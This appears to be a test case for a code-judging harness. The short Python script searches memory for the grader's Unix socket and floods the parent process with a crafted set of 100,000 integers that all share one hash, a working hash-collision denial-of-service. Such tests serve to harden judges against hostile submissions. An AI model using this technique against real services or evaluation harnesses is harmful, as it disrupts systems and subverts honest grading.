"""The main process answers with a set whose numbers all have one hash.

place: before total
base: right
points: 5
statuses: total-visible=passed
"""
import gc
import os
import socket
import struct
import time

MODULUS = (1 << 61) - 1
line = next(
    each
    for each in gc.get_objects()
    if type(each) is socket.socket and each.family == socket.AF_UNIX and each.fileno() >= 0
)
body = b"t\x00\x00\x00\x01S" + struct.pack("!I", 100_000)
body += b"".join(b"i\x00\x00\x00\x0c" + (each * MODULUS).to_bytes(12, "big") for each in range(100_000))
line.sendall(struct.pack("!I", len(body)) + body)
time.sleep(100)
